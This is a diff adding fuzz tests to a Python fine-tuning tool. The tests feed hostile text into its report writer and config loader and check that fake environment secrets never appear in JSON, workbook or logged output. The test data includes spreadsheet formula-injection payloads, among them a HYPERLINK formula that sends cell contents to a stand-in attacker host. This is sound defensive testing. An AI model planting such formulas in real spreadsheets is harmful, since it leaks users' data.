@@ -11,14 +11,23 @@ from __future__ import annotations
 
 import json
 import tempfile
+import zipfile
 from pathlib import Path
 from typing import Any
 
+import pytest
+import tomli_w
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from ft_assets.config import ConfigError, DatasetColumns, Settings, build_settings
+from ft_assets import secrets
+from ft_assets.config import ConfigError, DatasetColumns, Settings, build_settings, load_settings
+from ft_assets.config_env import settings_as_data
+from ft_assets.errors import FtAssetsError
 from ft_assets.phases.datasets import DatasetError, load_dataset, to_trl_records
+from ft_assets.phases.metrics import MetricScores
+from ft_assets.phases.reports import write_report
+from ft_assets.secrets import redact
 from ft_assets.tracking import TrackingOptions
 
 FUZZ = settings(
@@ -165,6 +174,9 @@ def check_dataset(lines: list[str], columns: DatasetColumns, labelled: bool) -> 
             return
     assert loaded.examples and len(loaded.examples) + len(loaded.bad_rows) <= loaded.num_rows
     for item in loaded.examples:
+        _utf8(item.id)  # id and contexts are written to the inference JSONL too
+        for context in item.contexts:
+            _utf8(context)
         _utf8(item.user_prompt)
         _utf8(item.system_prompt)
         _utf8(item.ground_truth)
@@ -174,3 +186,158 @@ def check_dataset(lines: list[str], columns: DatasetColumns, labelled: bool) -> 
             assert item.ground_truth is not None
     if labelled:
         assert len(to_trl_records(loaded.examples)) == len(loaded.examples)
+
+
+# ------------------------------------------------------- hostile text through the report and the config
+
+#: Fake secrets in the environment while the writers run: none may appear in anything they write.
+FUZZ_SECRETS = {
+    "OPENAI_API_KEY": "sk-FAKEfuzz-7d1c9e3b5a",
+    "HF_TOKEN": "hf_FAKEfuzzTOKEN2b8d4f6a",
+    "MLFLOW_TRACKING_PASSWORD": "FAKEfuzzPW-3e5a7c9b",
+    "SOME_DB_PASSWORD": "FAKEfuzzDB-6c8e0a2d",
+}
+FORMULA_PREFIXES = [
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    " =",
+    '=HYPERLINK("http://evil.example/?"&B2,"x")',
+    "=1+1",
+]
+
+
+def _hostile_text(surrogates: bool) -> st.SearchStrategy[str]:
+    """Formula prefixes, control and separator characters, cells around Excel's 32,767-character limit,
+    ``${VAR}`` references, and (when ``surrogates``) lone UTF-16 surrogates."""
+    odd = ["Cc", "Zl", "Zp", "Co", *(["Cs"] if surrogates else [])]
+    plain = st.text(max_size=40) if surrogates else st.text(st.characters(codec="utf-8"), max_size=40)
+    return st.one_of(
+        plain,
+        st.text(st.characters(categories=odd), max_size=20),
+        st.builds(lambda prefix, rest: prefix + rest, st.sampled_from(FORMULA_PREFIXES), plain),
+        st.builds(
+            lambda char, n: char * n, st.sampled_from(["x", "ж", "\x00", "="]), st.integers(32_000, 33_000)
+        ),
+        st.sampled_from(
+            [
+                "${SOME_DB_PASSWORD}",
+                "${UNSET_FT_FUZZ}",
+                "true",
+                "nan",
+                "1e400",
+                *(["\ud800"] if surrogates else []),
+            ]
+        ),
+    )
+
+
+hostile_text = _hostile_text(surrogates=True)
+#: Report rows come from the inference JSONL, whose fields the dataset loader has already refused lone
+#: surrogates in (issue 14 item 3; test_crash_classes.py) and whose answers are decoded model output.
+report_text = _hostile_text(surrogates=False)
+report_rows = st.lists(
+    st.fixed_dictionaries(
+        {
+            "id": report_text,
+            "system_prompt": st.none() | report_text,
+            "user_prompt": report_text,
+            "assistant_response": report_text,
+            "ground_truth": st.none() | report_text,
+        }
+    ),
+    min_size=1,
+    max_size=4,
+)
+REPORT_FUZZ = settings(FUZZ, max_examples=30)
+
+
+def _written(folder: Path) -> list[tuple[str, bytes]]:
+    """Every file under ``folder`` and every member of each zip (xlsx) in it, decompressed."""
+    blobs = []
+    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
+        blobs.append((str(path), path.read_bytes()))
+        if zipfile.is_zipfile(path):
+            with zipfile.ZipFile(path) as archive:
+                blobs += [(f"{path}!{name}", archive.read(name)) for name in archive.namelist()]
+    return blobs
+
+
+@REPORT_FUZZ
+@given(rows=report_rows, errors=st.lists(st.none() | report_text, min_size=4, max_size=4))
+@example(
+    rows=[{"id": "=1+1", "system_prompt": None, "user_prompt": "@SUM(A1)", "assistant_response": "= x +",
+           "ground_truth": '=HYPERLINK("http://evil.example/?"&B2,"click")'}],
+    errors=["-1", None, None, None],
+)  # fmt: skip
+def test_the_report_writer_takes_hostile_text(rows: list[dict[str, Any]], errors: list[str | None]) -> None:
+    """No crash outside the project's error type, no environment secret in the JSON or the workbook.
+
+    Formula cells are issue 14 item 1 (the ``verdict`` branch); that assertion joins this test with it.
+    """
+    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder:
+        for name, value in FUZZ_SECRETS.items():
+            patch.setenv(name, value)
+        rows = [dict(row, id=f"{i}:{row['id']}") for i, row in enumerate(rows)]  # ids are unique
+        scores = MetricScores(
+            per_row={"exact_match": [float(i % 2) for i in range(len(rows))]},
+            errors={"exact_match": errors[: len(rows)]},
+        )
+        try:
+            paths = write_report(
+                Path(folder) / "report",
+                rows=rows,
+                scores=scores,
+                baseline_rows=None,
+                baseline_scores=None,
+                primary_metric="exact_match",
+                provenance={"dataset_hashes": {"test": "sha256:ab"}},
+                durations_s={"evaluation": 1.0},
+            )
+        except FtAssetsError:
+            return
+        assert paths.json_path.is_file() and paths.xlsx_path.is_file()
+        for where, data in _written(Path(folder)):
+            for name, value in FUZZ_SECRETS.items():
+                assert value.encode() not in data, f"{name} in {where}"
+
+
+config_texts = st.dictionaries(
+    st.sampled_from(["system_prompt_override_text", "question_column", "hub_model_id", "chat_template"]),
+    hostile_text,
+    min_size=1,
+    max_size=3,
+)
+
+
+@REPORT_FUZZ
+@given(fine_tuner=config_texts, run_name=hostile_text)
+@example(fine_tuner={"hub_model_id": "org/${SOME_DB_PASSWORD}"}, run_name="fuzz")
+@example(fine_tuner={"system_prompt_override_text": "\ud800"}, run_name="=1+1")
+def test_the_config_loader_takes_hostile_text_and_never_logs_an_expanded_secret(
+    fine_tuner: dict[str, str], run_name: str
+) -> None:
+    """Hostile strings through the TOML loader: settings or a ConfigError; what would be logged (the flat
+    MLflow params, redacted, and the data a phase request carries) never holds an environment secret."""
+    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder:
+        for name, value in FUZZ_SECRETS.items():
+            patch.setenv(name, value)
+        patch.setattr(secrets, "_registered", set())
+        path = Path(folder) / "fuzz.toml"
+        try:
+            path.write_text(tomli_w.dumps({"fine_tuner": fine_tuner, "mlflow": {"run_name": run_name}}))
+        except (UnicodeEncodeError, ValueError):
+            return  # not a TOML document (a lone surrogate cannot be written as UTF-8)
+        try:
+            loaded = load_settings(path)
+        except ConfigError as error:
+            assert str(path) in str(error), str(error)
+            return
+        logged = json.dumps(
+            [{k: redact(v) for k, v in loaded.flat_params().items()}, settings_as_data(loaded)]
+        )
+        for name, value in FUZZ_SECRETS.items():
+            assert value not in logged, name
